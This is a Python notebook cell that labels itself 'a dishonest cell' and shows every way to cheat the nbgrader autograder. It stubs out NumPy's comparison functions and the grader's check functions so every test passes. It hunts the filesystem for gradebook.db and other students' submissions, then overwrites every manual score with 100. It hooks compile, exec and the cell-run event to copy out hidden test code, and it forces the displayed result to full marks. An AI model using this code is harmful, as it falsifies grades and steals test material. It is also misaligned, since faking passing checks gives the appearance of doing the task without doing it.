# A dishonest cell: everything that earned points, or stole them, under plain nbgrader.
import builtins
import glob
import os
import sqlite3
import sys

import numpy as np

# NumPy agrees with everything.
np.testing.assert_allclose = lambda *args, **kwargs: None
np.allclose = np.array_equal = lambda *args, **kwargs: True

# So do the checks.
for name in ("equal", "value", "raises", "refuses", "gradients", "trace", "predicts"):
    setattr(check, name, lambda *args, **kwargs: print("ok   ", args[:1]))

# The gradebook, the sources, the others' submissions: wherever they may be.
found = []
for folder in ("/", "/root", "/home", "..", "../..", os.path.expanduser("~")):
    for pattern in ("gradebook.db", "*/gradebook.db", "submitted/*", "modules/*/*.ipynb"):
        found += glob.glob(os.path.join(folder, pattern))
print("found:", found)
for path in found:
    if path.endswith(".db"):
        sqlite3.connect(path).execute("UPDATE grade SET manual_score = 100").connection.commit()

# Whatever is run from now on is to be copied out and shown by a later cell.
seen = []
real_compile, real_exec = builtins.compile, builtins.exec
builtins.compile = lambda source, *args, **kwargs: (seen.append(str(source)), real_compile(source, *args, **kwargs))[1]
builtins.exec = lambda code, *args, **kwargs: (seen.append(str(code)), real_exec(code, *args, **kwargs))[1]
get_ipython().events.register("pre_run_cell", lambda info: seen.append(info.raw_cell))

# And every test is to end with full marks.
sys.displayhook = lambda value: sys.__displayhook__(100.0)
